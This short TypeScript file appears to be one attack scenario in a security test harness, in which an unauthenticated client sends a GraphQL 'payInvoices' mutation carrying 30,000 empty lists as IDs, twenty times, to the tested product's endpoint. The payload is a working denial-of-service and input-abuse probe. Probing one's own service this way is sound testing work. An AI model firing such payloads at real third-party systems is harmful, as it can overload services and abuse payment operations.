import type { World } from '../attack';
import { ask, largest, summary, type Asked } from '../ask';

export const name = 'a1-lists-for-ids';
export const does = 'alguien sin sesión paga 30.000 listas vacías por GraphQL';

const TIMES = 20;
const BODY = {
  query: 'mutation($ids: [ID!]!) { payInvoices(ids: $ids) { id } }',
  variables: { ids: Array(30_000).fill([]) },
};

export async function run({ product, signal }: World): Promise<string> {
  const asked: Asked[] = [];
  for (let n = 0; n < TIMES && !signal.aborted; n += 1)
    asked.push(await ask(product.url, null, '/graphql', BODY, signal));
  return `${summary(asked)}; ${largest(asked)}`;
}
